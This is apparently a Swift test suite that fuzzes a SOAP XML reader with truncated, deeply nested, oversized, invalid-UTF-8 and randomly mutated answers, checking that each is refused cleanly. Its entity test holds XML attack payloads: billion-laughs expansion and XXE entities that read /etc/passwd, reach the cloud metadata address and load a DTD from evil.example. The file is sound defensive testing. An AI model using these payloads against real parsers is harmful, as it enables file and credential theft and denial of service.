import Foundation
@testable import HitchPlatforms
import Hummingbird
import NIOCore
import NIOHTTP1
import Testing

/// Hostile and broken answers to the SOAP reader: truncated, deeply nested, huge, with a DOCTYPE or entities, with
/// invalid UTF-8, and thousands of random mutations of a real answer. Each is a clean refusal (nil), never a crash
/// or a hang; an answer larger than a job's limit is cut off while it streams in.
@Suite(.timeLimit(.minutes(2))) struct SOAPReaderFuzzTests {
    static let answer = """
        <?xml version="1.0" encoding="UTF-8"?>
        <soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"><soapenv:Body>\
        <RetrievePropertiesExResponse xmlns="urn:vim25"><returnval><token>7</token>\
        <objects><obj type="VirtualMachine">vm-1</obj><propSet><name>name</name>\
        <val>caf\u{E9} &amp; \u{1F600} &#233;<![CDATA[<raw>]]></val></propSet></objects>\
        </returnval></RetrievePropertiesExResponse></soapenv:Body></soapenv:Envelope>
        """

    @Test func everyTruncationIsRefused() throws {
        let bytes = Array(Self.answer.utf8)
        #expect(SOAPNode.parse(Data(bytes)) != nil)
        let end = bytes.lastIndex(of: UInt8(ascii: ">"))!
        for length in 0...end {
            #expect(SOAPNode.parse(Data(bytes[..<length])) == nil, "a prefix of \(length) bytes")
        }
    }

    @Test func tenThousandLevelsAreRefusedWithoutExhaustingTheStack() {
        let deep = String(repeating: "<a>", count: 10_000) + "x" + String(repeating: "</a>", count: 10_000)
        #expect(SOAPNode.parse(Data(deep.utf8)) == nil)
        let unclosed = String(repeating: "<a>", count: 10_000)
        #expect(SOAPNode.parse(Data(unclosed.utf8)) == nil)
    }

    @Test(arguments: [
        // Entity expansion ("billion laughs"), external entities, parameter entities: any DOCTYPE is refused.
        "<?xml version=\"1.0\"?><!DOCTYPE lolz [<!ENTITY lol \"lol\"><!ENTITY lol2 \"&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;\">]><a>&lol2;</a>",
        "<!DOCTYPE a SYSTEM \"file:///etc/passwd\"><a/>",
        "<!DOCTYPE a [<!ENTITY xxe SYSTEM \"http://169.254.169.254/latest/meta-data/\">]><a>&xxe;</a>",
        "<!DOCTYPE a [<!ENTITY % p SYSTEM \"http://evil.example/p.dtd\"> %p;]><a/>",
        "<a>&xxe;</a>", "<a>&#0;</a>", "<a>&#x110000;</a>", "<a>&#xD800;</a>", "<a>&#99999999999999999999;</a>",
    ])
    func doctypesAndEntitiesAreRefused(text: String) {
        #expect(SOAPNode.parse(Data(text.utf8)) == nil, "\(text.prefix(60))")
    }

    @Test(arguments: [
        [0xFF], [0xC0, 0xAF], [0xE0, 0x80, 0xAF], [0xED, 0xA0, 0x80], [0xF4, 0x90, 0x80, 0x80], [0xC3], [0xE2, 0x82],
        [0x80], [0xF8, 0x88, 0x80, 0x80, 0x80],
    ] as [[UInt8]])
    func invalidUTF8IsRefusedWhole(sequence: [UInt8]) {
        for (prefix, suffix) in [("<a>", "</a>"), ("<a b=\"", "\"/>"), ("<", "/>"), ("<a><![CDATA[", "]]></a>")] {
            let document = Array(prefix.utf8) + sequence + Array(suffix.utf8)
            #expect(SOAPNode.parse(Data(document)) == nil, "\(sequence) in \(prefix)")
        }
        #expect(SOAPNode.parse(Data("<a>é😀</a>".utf8))?.text == "é😀", "well-formed UTF-8 still reads")
    }

    /// Random edits of a real answer, the same every run (a fixed seed): each parses or is refused.
    @Test func fiveThousandMutationsNeverCrash() {
        var random = SplitMix64(seed: 0x6869_7463_6866_757A)
        let original = Array(Self.answer.utf8)
        let alphabet = Array("<>/&;=\"'![]?-x#\u{0}".utf8) + [0xC3, 0xA9, 0xFF, 0x80]
        var parsed = 0
        for _ in 0..<5_000 {
            var bytes = original
            for _ in 0..<(1 + Int(random.next() % 4)) {
                let index = Int(random.next() % UInt64(bytes.count))
                switch random.next() % 4 {
                case 0: bytes[index] = alphabet[Int(random.next() % UInt64(alphabet.count))]
                case 1: bytes.remove(at: index)
                case 2: bytes.insert(alphabet[Int(random.next() % UInt64(alphabet.count))], at: index)
                default:
                    let end = min(bytes.count, index + Int(random.next() % 40))
                    bytes.insert(contentsOf: bytes[index..<end], at: index)
                }
                if bytes.isEmpty { bytes = original }
            }
            if SOAPNode.parse(Data(bytes)) != nil { parsed += 1 }
        }
        // Some edits land in text and still read; most break the markup. Either way, every one returned.
        #expect(parsed > 0 && parsed < 5_000)
    }

    /// 100 MB in one text node reads (the reader holds the answer it was given, and nothing more than one copy of
    /// the text); 100 MB streamed by a server is cut off at a job's 64 MiB limit, with a clean error.
    @Test func aHugeAnswerIsReadInMemoryOnceAndCutOffWhenStreamed() async throws {
        let huge = Data("<a>".utf8) + Data(repeating: UInt8(ascii: "x"), count: 100 << 20) + Data("</a>".utf8)
        #expect(SOAPNode.parse(huge)?.text.utf8.count == 100 << 20)

        let router = Router()
        router.get("/sdk") { _, _ in
            Response(status: .ok, headers: [.contentType: "text/xml"], body: ResponseBody { writer in
                let chunk = ByteBuffer(repeating: UInt8(ascii: "x"), count: 1 << 20)
                try await writer.write(ByteBuffer(string: "<a>"))
                for _ in 0..<100 { try await writer.write(chunk) }
                try await writer.write(ByteBuffer(string: "</a>"))
                try await writer.finish(nil)
            })
        }
        try await LocalTLSServer.run(router) { server in
            var stages: [StageResult] = []
            var probe = EndpointProbe(
                host: "127.0.0.1", port: server.port, policy: .pinned(thumbprint: server.thumbprint), timeout: .seconds(30))
            probe.maximumResponseBytes = PolicyHTTPSConnection.jobResponseLimit
            let connection = try await probe.open(into: &stages)
            defer { connection.close() }
            do {
                _ = try await connection.send(.GET, path: "/sdk", headers: [:], body: nil)
                Issue.record("an answer past the limit was taken whole")
            } catch {
                #expect(error is ChannelError, "\(error)")
            }
        }
    }
}

/// A small deterministic generator (SplitMix64), so the mutations are the same every run.
struct SplitMix64 {
    private var state: UInt64

    init(seed: UInt64) { state = seed }

    mutating func next() -> UInt64 {
        state &+= 0x9E37_79B9_7F4A_7C15
        var z = state
        z = (z ^ (z >> 30)) &* 0xBF58_476D_1CE4_E5B9
        z = (z ^ (z >> 27)) &* 0x94D0_49BB_1331_11EB
        return z ^ (z >> 31)
    }
}
